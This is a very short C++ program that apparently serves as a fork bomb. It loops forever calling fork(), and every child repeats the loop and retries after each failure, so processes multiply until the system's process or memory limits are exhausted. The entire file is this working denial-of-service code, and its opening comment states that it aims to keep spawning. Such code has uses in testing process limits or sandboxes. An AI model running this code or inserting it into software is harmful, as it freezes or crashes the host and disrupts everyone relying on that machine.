// As many processes as there may be, each of which goes on trying.
#include <unistd.h>

int main() {
  while (true) {
    if (fork() < 0) usleep(20'000);
  }
}
